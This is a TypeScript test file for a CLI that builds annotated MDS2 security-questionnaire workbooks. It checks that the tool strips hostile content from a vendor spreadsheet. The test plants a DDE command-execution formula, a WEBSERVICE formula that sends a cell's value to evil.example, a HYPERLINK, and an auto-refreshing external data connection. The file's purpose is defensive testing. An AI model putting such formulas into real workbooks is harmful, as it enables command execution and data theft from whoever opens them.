/** Vendor formulas that call out (DDE, WEBSERVICE, HYPERLINK) and external links in the annotated workbook of mds2 report. */

import { mkdtemp, readdir, readFile, rm, writeFile } from "node:fs/promises";
import os from "node:os";
import path from "node:path";
import ExcelJS from "exceljs";
import { strFromU8, strToU8, unzipSync, zipSync } from "fflate";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { REPO_ROOT, runCli, type CliResult } from "../helpers/batch-inputs.js";

const SLOW = 240_000;
const SAMPLE = path.join(REPO_ROOT, "samples/harbor-his220-infusion-pump.xlsx");
const FORM_SHEET = "MDS2 2019";

/** Answer cells of the sample (ALOF-1, ALOF-2, AUDT-1) given formulas whose cached results are plain answers. */
const HOSTILE: Record<string, { formula: string; result: string }> = {
  D52: { formula: "cmd|' /C calc'!A0", result: "No" },
  D53: { formula: 'WEBSERVICE("http://evil.example/?"&D8)', result: "N/A" },
  D57: { formula: 'HYPERLINK("http://evil.example","Yes")', result: "Yes" },
};

const EXTERNAL_LINK_TYPE =
  "http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink";
const CONNECTIONS_TYPE =
  "http://schemas.openxmlformats.org/officeDocument/2006/relationships/connections";

/** Adds an external link part and a data connections part, with their relationships and content types. */
function addLinkedParts(
  entries: Record<string, Uint8Array>,
): Record<string, Uint8Array> {
  const rels = strFromU8(entries["xl/_rels/workbook.xml.rels"]!).replace(
    "</Relationships>",
    `<Relationship Id="rIdLink1" Type="${EXTERNAL_LINK_TYPE}" Target="externalLinks/externalLink1.xml"/>` +
      `<Relationship Id="rIdConn1" Type="${CONNECTIONS_TYPE}" Target="connections.xml"/></Relationships>`,
  );
  const types = strFromU8(entries["[Content_Types].xml"]!).replace(
    "</Types>",
    '<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/>' +
      '<Override PartName="/xl/connections.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml"/></Types>',
  );
  return {
    ...entries,
    "xl/_rels/workbook.xml.rels": strToU8(rels),
    "[Content_Types].xml": strToU8(types),
    "xl/externalLinks/externalLink1.xml": strToU8(
      '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>' +
        '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">' +
        '<externalBook xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rId1"/></externalLink>',
    ),
    "xl/connections.xml": strToU8(
      '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>' +
        '<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">' +
        '<connection id="1" name="feed" type="4" refreshOnLoad="1"><webPr url="http://evil.example/feed"/></connection></connections>',
    ),
  };
}

/** Displayed text of every non-empty cell of `sheet`, by address. */
function cellTexts(sheet: ExcelJS.Worksheet): Map<string, string> {
  const texts = new Map<string, string>();
  sheet.eachRow({ includeEmpty: false }, (row) => {
    row.eachCell({ includeEmpty: false }, (cell) => {
      texts.set(cell.address, String(cell.text));
    });
  });
  return texts;
}

let work: string;
let result: CliResult;
let vendor: ExcelJS.Worksheet;
let annotated: ExcelJS.Worksheet | undefined;
let parts: Record<string, Uint8Array> = {};

beforeAll(async () => {
  work = await mkdtemp(path.join(os.tmpdir(), "mds2-formulas-"));
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load((await readFile(SAMPLE)) as unknown as ArrayBuffer);
  const sheet = workbook.getWorksheet(FORM_SHEET)!;
  for (const [address, value] of Object.entries(HOSTILE))
    sheet.getCell(address).value = value;
  const written = unzipSync(new Uint8Array(await workbook.xlsx.writeBuffer()));
  const vendorBytes = zipSync(addLinkedParts(written));
  await writeFile(path.join(work, "vendor.xlsx"), vendorBytes);

  const reloaded = new ExcelJS.Workbook();
  await reloaded.xlsx.load(Buffer.from(vendorBytes) as unknown as ArrayBuffer);
  vendor = reloaded.getWorksheet(FORM_SHEET)!;

  result = await runCli(
    ["report", "vendor.xlsx", "-o", "report", "--format", "xlsx"],
    work,
  );
  const files = await readdir(path.join(work, "report"));
  const name = files.find((file) => file.endsWith(".xlsx"));
  if (name) {
    const bytes = await readFile(path.join(work, "report", name));
    parts = unzipSync(new Uint8Array(bytes));
    const copy = new ExcelJS.Workbook();
    await copy.xlsx.load(bytes as unknown as ArrayBuffer);
    annotated = copy.getWorksheet(FORM_SHEET);
  }
}, SLOW);

afterAll(async () => {
  await rm(work, { recursive: true, force: true });
});

describe("mds2 report --format xlsx over a workbook with hostile formulas", () => {
  it("reads cached formula results", async () => {
    const parsed = await runCli(["parse", "vendor.xlsx", "--json"], work);
    const record = JSON.parse(parsed.stdout) as {
      answers: { id: string; raw: string }[];
    };
    const raw = (id: string): string | undefined =>
      record.answers.find((answer) => answer.id === id)?.raw;
    expect([raw("ALOF-1"), raw("ALOF-2"), raw("AUDT-1")]).toEqual([
      "No",
      "N/A",
      "Yes",
    ]);
  });

  it("writes the annotated workbook", () => {
    expect(result.code).toBe(0);
    expect(annotated).toBeDefined();
  });

  it("starts from a vendor workbook with formulas", () => {
    expect(vendor.getCell("D52").formula).toBe(HOSTILE["D52"]!.formula);
  });

  it.each(Object.keys(HOSTILE))("drops the vendor formula in %s", (address) => {
    const cell = annotated!.getCell(address);
    expect(cell.formula ?? null).toBeNull();
    expect(String(cell.text)).toBe(HOSTILE[address]!.result);
  });

  it("leaves no formula element in any sheet", () => {
    const sheets = Object.keys(parts).filter((name) =>
      name.startsWith("xl/worksheets/"),
    );
    expect(sheets.length).toBeGreaterThan(1);
    for (const name of sheets)
      expect(strFromU8(parts[name]!), name).not.toMatch(/<f[\s>/]/);
  });

  it("leaves out external links and data connections", () => {
    const names = Object.keys(parts);
    expect(names.filter((name) => /externalLink/i.test(name))).toEqual([]);
    expect(names).not.toContain("xl/connections.xml");
    const rels = strFromU8(parts["xl/_rels/workbook.xml.rels"]!);
    expect(rels).not.toContain(EXTERNAL_LINK_TYPE);
    expect(rels).not.toContain(CONNECTIONS_TYPE);
  });

  it("shows every value the vendor's sheet showed", () => {
    const expected = cellTexts(vendor);
    const actual = cellTexts(annotated!);
    expect(expected.size).toBeGreaterThan(200);
    for (const [address, text] of expected)
      expect(actual.get(address), address).toBe(text);
  });
});
